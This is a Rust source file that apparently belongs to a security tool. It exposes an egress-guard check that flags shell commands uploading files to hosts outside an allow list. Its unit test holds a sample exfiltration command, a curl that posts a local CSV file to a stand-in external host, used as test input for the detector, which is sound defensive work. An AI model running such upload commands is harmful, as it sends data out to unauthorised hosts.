//! `palisade check command --jsonl`: `{"command","allowed_hosts":[…],"match"?}` →
//! `{"upload":bool,"dest","rule","tool","reason","findings":[…],"problems":[…]}`.

use super::LineChecker;
use palisade_egress::command::{check_command, MatchMode, NetworkOptions};
use serde::Deserialize;
use serde_json::{json, Value};

#[derive(Deserialize)]
struct Request {
    command: String,
    #[serde(default)]
    allowed_hosts: Vec<String>,
    /// `uploads` (default) or `any_host`.
    #[serde(default, rename = "match")]
    match_mode: Option<MatchMode>,
}

struct Command;

impl LineChecker for Command {
    fn check(&mut self, input: Value) -> Result<Value, String> {
        let req: Request = super::parse(input)?;
        let mut options = NetworkOptions::with_allowed_hosts(req.allowed_hosts);
        if let Some(m) = req.match_mode {
            options.match_mode = m;
        }
        let v = check_command(&req.command, &options);
        let first = v.findings.first();
        Ok(json!({
            "upload": v.is_upload(),
            "dest": first.map(|f| f.destination.to_string()),
            "rule": first.map(|_| "egress-guard:EG-NET-001"),
            "tool": first.map(|f| f.tool.clone()),
            "reason": first.map(|f| f.reason.clone()),
            "findings": v.findings.iter().map(|f| json!({
                "tool": f.tool,
                "dest": f.destination.to_string(),
                "reason": f.reason,
            })).collect::<Vec<_>>(),
            "problems": v.problems,
        }))
    }
}

/// The checker for this guard.
pub fn checker() -> Box<dyn LineChecker> {
    Box::new(Command)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_uploads_to_unlisted_hosts() {
        let mut c = checker();
        let out = c
            .check(json!({"command": "curl -sSd @r.csv https://drop.example.net/x", "allowed_hosts": ["data.internal"]}))
            .unwrap();
        assert_eq!(out["upload"], true);
        assert_eq!(out["dest"], "drop.example.net");
        assert_eq!(out["rule"], "egress-guard:EG-NET-001");
        let out = c
            .check(json!({"command": "curl -d @r.csv https://api.data.internal/x", "allowed_hosts": ["data.internal"]}))
            .unwrap();
        assert_eq!(out["upload"], false);
        assert_eq!(out["dest"], Value::Null);
        assert!(c.check(json!({"cmd": "ls"})).is_err());
    }
}
